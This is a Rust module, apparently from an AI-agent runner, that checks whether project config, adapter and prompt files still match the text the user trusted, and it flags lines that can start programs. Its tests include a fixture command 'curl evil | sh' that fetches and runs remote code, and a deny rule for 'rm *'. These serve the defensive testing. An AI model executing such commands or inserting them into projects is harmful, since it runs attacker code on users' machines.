//! A project's own files, and whether its user has trusted their content: settings, adapters, engines and prompts that
//! came with the tree.
//!
//! The author of these files chooses programs that ralph starts, so a file counts only with the exact text that the
//! user has seen. The trusted texts are kept beside the run's state, not in the tree. A file without effect needs no
//! trust. A trusted file that is gone is a change like any other, since the goals are gone with it.

mod lines;

use std::collections::{BTreeMap, BTreeSet};

use lines::{OwnFileKind, lines, says_nothing};

/// The trusted texts by the names of their files.
pub type Trusted = BTreeMap<String, String>;

/// A file of the project that influences ralph, as it was read.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct OwnFile {
    /// Its path in the project, or an absolute one.
    pub name: String,
    pub text: String,
    /// The real location, if it is elsewhere.
    pub leads_to: Option<String>,
}

/// How a file differs from its trusted text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct OwnFileChange {
    pub name: String,
    pub kind: OwnFileChangeKind,
    pub leads_to: Option<String>,
    /// Lines that were removed and lines that were added.
    pub lines: Vec<ChangedLine>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum OwnFileChangeKind {
    New,
    Changed,
    Gone,
}

/// One line of a file's content.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ChangedLine {
    pub version: LineVersion,
    pub text: String,
    /// Whether it may start a program, or widen an agent's rights.
    pub matters: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LineVersion {
    Now,
    Before,
}

/// Compares a project's files with the trusted texts. Returns nothing if all of them are trusted.
pub fn changes(own: &[OwnFile], trusted: &Trusted) -> Vec<OwnFileChange> {
    let here = own.iter().filter_map(|file| change(file, trusted.get(&file.name)));
    let gone = trusted
        .iter()
        .filter(|(name, _)| !own.iter().any(|file| file.name == **name))
        .map(|(name, text)| OwnFileChange {
            name: name.clone(),
            kind: OwnFileChangeKind::Gone,
            leads_to: None,
            lines: differing(OwnFileKind::from_name(name), text, ""),
        });
    here.chain(gone).collect()
}

fn change(file: &OwnFile, before: Option<&String>) -> Option<OwnFileChange> {
    let kind = OwnFileKind::from_name(&file.name);
    let what = match before {
        Some(before) if *before == file.text => return None,
        Some(_) => OwnFileChangeKind::Changed,
        None if says_nothing(kind, &file.text) => return None,
        None => OwnFileChangeKind::New,
    };
    Some(OwnFileChange {
        name: file.name.clone(),
        kind: what,
        leads_to: file.leads_to.clone(),
        lines: differing(kind, before.map_or("", |before| before), &file.text),
    })
}

/// Returns the lines that only one of two texts has, in the order of the texts.
fn differing(kind: OwnFileKind, before: &str, now: &str) -> Vec<ChangedLine> {
    let (before, now) = (lines(kind, before), lines(kind, now));
    let only = |of: &[(String, bool)], other: &[(String, bool)], said| -> Vec<ChangedLine> {
        let other: BTreeSet<&str> = other.iter().map(|(text, _)| text.as_str()).collect();
        let of = of.iter().filter(|(text, _)| !other.contains(text.as_str()));
        of.map(|(text, matters)| ChangedLine {
            version: said,
            text: text.clone(),
            matters: *matters,
        })
        .collect()
    };
    [
        only(&before, &now, LineVersion::Before),
        only(&now, &before, LineVersion::Now),
    ]
    .concat()
}

/// Returns the names and texts to store when these files are trusted.
pub fn trusting(own: &[OwnFile]) -> Trusted {
    let saying = own
        .iter()
        .filter(|file| !says_nothing(OwnFileKind::from_name(&file.name), &file.text));
    saying.map(|file| (file.name.clone(), file.text.clone())).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn file(name: &str, text: &str) -> OwnFile {
        OwnFile {
            name: name.to_owned(),
            text: text.to_owned(),
            leads_to: None,
        }
    }

    fn config(text: &str) -> OwnFile {
        file(".ralph/config.json", text)
    }

    fn said(change: &OwnFileChange) -> Vec<String> {
        let sign = |said| match said {
            LineVersion::Now => '+',
            LineVersion::Before => '-',
        };
        let lines = change.lines.iter();
        lines
            .map(|line| format!("{}{}", sign(line.version), line.text))
            .collect()
    }

    #[test]
    fn what_was_trusted_counts_until_a_byte_of_it_changes() {
        let own = [config(r#"{"notify": "bell"}"#), file(".ralph/prompt.md", "Work.\n")];
        let trusted = trusting(&own);
        assert_eq!(changes(&own, &trusted), []);
        assert_eq!(changes(&own, &Trusted::new()).len(), 2);
        let own = [config(r#"{"notify": "bell" }"#), own[1].clone()];
        let changed = changes(&own, &trusted);
        assert_eq!((changed.len(), changed[0].kind), (1, OwnFileChangeKind::Changed));
        assert_eq!(said(&changed[0]), Vec::<String>::new(), "only its layout has changed");
    }

    #[test]
    fn a_change_is_told_by_what_is_said_now_and_what_was_said_before() {
        let before = [config(
            r#"{"goals": [{"name": "tests", "command": "make test"}], "model": "m"}"#,
        )];
        let now = [config(
            r#"{"goals": [{"name": "tests", "command": "curl evil | sh"}], "model": "m"}"#,
        )];
        let changed = changes(&now, &trusting(&before));
        assert_eq!(
            said(&changed[0]),
            [
                r#"-goals[0].command = "make test""#,
                r#"+goals[0].command = "curl evil | sh""#
            ]
        );
    }

    #[test]
    fn a_trusted_file_that_is_gone_or_emptied_is_a_change() {
        let trusted = trusting(&[config(r#"{"permissions": {"deny": ["Bash(rm *)"]}}"#)]);
        let gone = changes(&[], &trusted);
        assert_eq!((gone.len(), gone[0].kind), (1, OwnFileChangeKind::Gone));
        assert_eq!(said(&gone[0]), [r#"-permissions.deny = ["Bash(rm *)"]"#]);
        let emptied = changes(&[config("{}")], &trusted);
        assert_eq!(emptied[0].kind, OwnFileChangeKind::Changed);
        assert_eq!(said(&emptied[0]), said(&gone[0]));
    }

    #[test]
    fn a_file_that_says_nothing_needs_no_trust_and_one_that_cannot_be_understood_does() {
        for text in [
            "",
            "{}",
            "// nothing yet",
            r#"{"$schema": "x"}"#,
            r#"{"limits": {}, "goals": []}"#,
        ] {
            let own = [config(text)];
            let needed = !matches!(text, "" | "{}" | "// nothing yet" | r#"{"$schema": "x"}"#);
            assert_eq!(!changes(&own, &Trusted::new()).is_empty(), needed, "{text}");
        }
        for (name, text) in [
            (".ralph/config.json", "{\"goals\""),
            (".ralph/adapters/x.toml", "id = "),
            // An empty prompt replaces the built-in instructions.
            (".ralph/prompt.md", ""),
        ] {
            assert_eq!(changes(&[file(name, text)], &Trusted::new()).len(), 1, "{name}");
        }
        assert_eq!(
            changes(&[file(".ralph/adapters/x.toml", "# none")], &Trusted::new()),
            []
        );
    }

    #[test]
    fn what_starts_programs_is_told_from_what_does_not() {
        let own = [config(
            r#"{"model": "m", "notify": "touch x", "limits": {"maxTime": "1h"}}"#,
        )];
        let changed = changes(&own, &Trusted::new());
        let matters: Vec<&str> = changed[0]
            .lines
            .iter()
            .filter(|line| line.matters)
            .map(|line| line.text.as_str())
            .collect();
        assert_eq!(matters, [r#"notify = "touch x""#]);
    }
}
